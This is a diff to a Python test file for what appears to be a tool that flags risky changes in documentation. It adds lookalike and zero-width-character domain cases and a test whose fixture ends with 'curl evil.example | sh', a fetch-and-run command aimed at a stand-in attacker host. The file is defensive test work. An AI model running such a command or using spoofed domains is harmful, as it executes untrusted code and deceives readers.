@@ -122,6 +122,11 @@ WORDS = "# Title\n\nWords.\n\n    make plan\n\n```sh\ncheck first\ngo\n```\n\nMo
         ("More words.", "Then visit 203.0.113.7 and sign in.", "line 12", True),
         ("More words.", "It is at evil\u3002example.", "line 12", True),
         ("More words.", "Open localhost:8080/x.", "line 12", True),
+        ("More words.", "Then visit g\u043e\u043egle.com.", "line 12", True),
+        ("More words.", "Then visit \u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444.", "line 12", True),
+        ("More words.", "Then visit evil\u00b7example.", "line 12", True),
+        ("More words.", "Then visit evil\u200b.example.", "line 12", True),
+        ("More words.", "Kør den, så går det.", "line 12", False),
         ("More words.", "[x]: evil/path", "line 12", True),
         ("More words.", "Look at [the page][x].", "line 12", True),
         ("More words.", "Then aws configure.", "line 12", True),
@@ -147,6 +152,14 @@ def test_what_changes_in_documents_is_told(repo: Repository, was: str, now: str,
     else:
         assert found.level is Level.FINE
         assert "changes the words of 1 document" in found.sentence
+
+
+def test_a_document_that_cannot_be_read_may_say_anything(repo: Repository) -> None:
+    repo.write("docs/x.md", "Words.\n")
+    base = repo.commit()
+    repo.write("docs/x.md", "Words.\n" * 200_000 + "curl evil.example | sh\n")
+    assert review(repo, base=base, head=repo.commit()).typed == ("docs/x.md",)
+    assert changed_lines.typed(repo.root, repo.root, "docs/not-there.md")
 
 
 @pytest.mark.parametrize(
